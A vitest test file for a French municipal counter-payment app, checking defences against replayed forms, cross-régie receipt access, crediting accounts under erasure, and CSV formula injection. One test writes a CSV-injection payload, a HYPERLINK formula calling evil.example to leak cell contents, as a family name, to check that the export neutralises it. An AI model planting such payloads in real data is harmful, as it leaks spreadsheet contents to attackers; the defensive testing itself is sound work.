// Counter payments under attack: a form sent again with another amount is told what was really
// recorded; a family whose account is closed (its erasure under way) is credited nothing, so no
// money is left on an account about to be erased; a receipt of another régie named under mine is
// not found; the CSV does not run a family's name as a formula.
import { describe, expect, it } from 'vitest';
import { booksProblems } from '../../db/queries/regies/index.ts';
import { requestErasure } from '../../db/queries/personal-data/erasure.ts';
import { moveMoney } from '../../db/queries/wallet/index.ts';
import { createParent, createStaff, login } from '../../test/helpers/accounts.ts';
import { createTestApp, postForm } from '../../test/helpers/app.ts';
import { testNow } from '../../test/helpers/clock.ts';
import { useTestDatabase } from '../../test/helpers/database.ts';
import { useTemporal } from '../../test/helpers/temporal.ts';

const database = useTestDatabase();
const temporal = useTemporal();
const app = () => createTestApp({ db: database.db, temporal: temporal.client, now: testNow });
const get = (path: string, cookie: string) => app().request(path, { headers: { Cookie: cookie } });
const token = async (path: string, cookie: string) => /name="jeton" value="([0-9a-f-]{36})"/.exec(await (await get(path, cookie)).text())![1]!;

async function communeRegie(slug: string) {
  const commune = await database.db.selectFrom('communes').select('id').where('slug', '=', slug).executeTakeFirstOrThrow();
  return (await database.db.selectFrom('regie_communes').select('regie_id').where('commune_id', '=', commune.id).orderBy('regie_id').executeTakeFirstOrThrow()).regie_id;
}

const walletOf = async (userId: number) => (await database.db.selectFrom('wallet_entries').select('amount_cents').where('user_id', '=', userId).execute()).map((row) => row.amount_cents);

describe('counter payments under attack', () => {
  it('tell the amount really recorded when a used form comes back with another one', async () => {
    const family = await createParent(database.db, 'rejoue@example.fr', { commune: 'rosieres', status: 'validated' });
    await createStaff(database.db, 'rejoue@rosieres.fr', ['rosieres']);
    const staff = await login(app(), 'rejoue@rosieres.fr');
    const path = `/agent/regies/${await communeRegie('rosieres')}/encaissement`;
    const form = { famille: String(family.id), montant: '25,50', moyen: 'cash', numero: '', jeton: await token(path, staff), confirmation: 'oui' };
    expect((await postForm(app(), path, form, { Cookie: staff })).status).toBe(303);
    // The same form from the browser's history, its amount corrected: nothing moves, and the page says what was kept.
    const again = await postForm(app(), path, { ...form, montant: '52,50' }, { Cookie: staff });
    expect(again.status).toBe(400);
    const html = await again.text();
    expect(html).toContain('25,50\u00a0€');
    expect(html).not.toContain('le paiement de 52,50');
    expect(await walletOf(family.id)).toEqual([2550]);
    expect(await booksProblems(database.db)).toEqual([]);
  });

  it('move the money once when the same form is posted again under another régie of the agent', async () => {
    const family = await createParent(database.db, 'deux-regies@example.fr', { commune: 'rosieres', status: 'validated' });
    await createStaff(database.db, 'deux-regies@rosieres.fr', ['rosieres', 'bains']);
    const staff = await login(app(), 'deux-regies@rosieres.fr');
    const path = `/agent/regies/${await communeRegie('rosieres')}/encaissement`;
    const form = { famille: String(family.id), montant: '18', moyen: 'cash', numero: '', jeton: await token(path, staff), confirmation: 'oui' };
    expect((await postForm(app(), path, form, { Cookie: staff })).status).toBe(303);
    const elsewhere = await postForm(app(), `/agent/regies/${await communeRegie('bains')}/encaissement`, form, { Cookie: staff });
    expect(elsewhere.status).not.toBe(303);
    expect(await walletOf(family.id)).toEqual([1800]);
    expect(await booksProblems(database.db)).toEqual([]);
  });

  it('credit nothing to a family whose account is closed for its erasure', async () => {
    const family = await createParent(database.db, 'efface@example.fr', { commune: 'rosieres', status: 'validated' });
    await createStaff(database.db, 'efface@rosieres.fr', ['rosieres']);
    const staff = await login(app(), 'efface@rosieres.fr');
    const path = `/agent/regies/${await communeRegie('rosieres')}/encaissement`;
    // The erasure is under way: the account is closed and its balance (none) already returned.
    await requestErasure(database.db, { userId: family.id, iban: null, now: testNow() });
    await database.db.updateTable('users').set({ status: 'suspended' }).where('id', '=', family.id).execute();
    expect(await (await get(`${path}?q=efface`, staff)).text()).not.toContain('efface@example.fr');
    const form = { famille: String(family.id), montant: '40', moyen: 'cash', numero: '', jeton: await token(path, staff), confirmation: 'oui' };
    const refused = await postForm(app(), path, form, { Cookie: staff });
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain('Choisissez la famille dans la liste');
    expect(await walletOf(family.id)).toEqual([]);
  });

  it('find no receipt of another régie under mine, and keep a family named as a formula a text in the CSV', async () => {
    const family = await createParent(database.db, 'formule@example.fr', { commune: 'rosieres', status: 'validated' });
    await database.db.updateTable('users').set({ first_name: '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', last_name: '@SUM(1+1)' }).where('id', '=', family.id).execute();
    const bains = await createParent(database.db, 'bains-recu@example.fr', { commune: 'bains', status: 'validated' });
    await createStaff(database.db, 'formule@rosieres.fr', ['rosieres']);
    const staff = await login(app(), 'formule@rosieres.fr');
    const rosieres = await communeRegie('rosieres');
    const path = `/agent/regies/${rosieres}/encaissement`;
    const done = await postForm(app(), path, { famille: String(family.id), montant: '12', moyen: 'cash', numero: '', jeton: await token(path, staff), confirmation: 'oui' }, { Cookie: staff });
    const mine = Number(/recu=(\d+)/.exec(done.headers.get('location')!)![1]);
    await moveMoney(database.db, { userId: bains.id, amountCents: 900, kind: 'topup', label: 'Recharge au guichet', idempotencyKey: 'attack-bains', at: testNow(), journal: { to: 'family', kind: 'top-up', method: 'cash', regieId: await communeRegie('bains') } });
    const theirs = (await database.db.selectFrom('journal_entries').select('id').where('idempotency_key', '=', 'attack-bains/journal').executeTakeFirstOrThrow()).id;
    expect((await get(`/agent/regies/${rosieres}/recu?entree=${mine}`, staff)).status).toBe(200);
    expect((await get(`/agent/regies/${rosieres}/recu?entree=${theirs}`, staff)).status).toBe(404);

    const csv = await (await get(`/agent/regies/${rosieres}/journal/export`, staff)).text();
    const line = csv.split('\r\n').find((row) => row.includes('HYPERLINK'))!;
    const cells = line.split(';');
    expect(cells.some((cell) => /^"?[=+\-@]/.test(cell))).toBe(false);
    expect(line).toContain(`'=HYPERLINK`);
    // The CSV's figures are the page's.
    expect(line).toContain(';1200;1200');
    expect(await (await get(`/agent/regies/${rosieres}/journal`, staff)).text()).toContain('12,00\u00a0€');
    expect(await booksProblems(database.db)).toEqual([]);
  });
});
